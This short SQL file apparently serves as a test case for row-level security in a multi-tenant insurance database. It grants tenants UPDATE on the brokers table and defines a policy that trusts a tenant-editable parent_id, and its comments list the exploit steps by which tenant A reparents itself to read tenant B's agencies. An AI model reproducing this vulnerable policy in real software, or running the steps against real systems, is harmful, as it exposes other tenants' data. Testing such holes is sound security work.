-- Tenant A makes itself the parent of B and reads its agencies.
-- about: brokers, agencies
-- as: hf_insurance_app
-- exploit: SET ins.broker = '1';
-- exploit: UPDATE ins.brokers SET parent_id = 2;
-- exploit: SELECT name FROM ins.agencies;
-- shows: Agency-secret
GRANT UPDATE ON ins.brokers TO hf_insurance_app;
CREATE POLICY related ON ins.agencies FOR SELECT USING (broker_id IN (
  SELECT b.parent_id FROM ins.brokers b WHERE b.id = (SELECT ins.broker())));
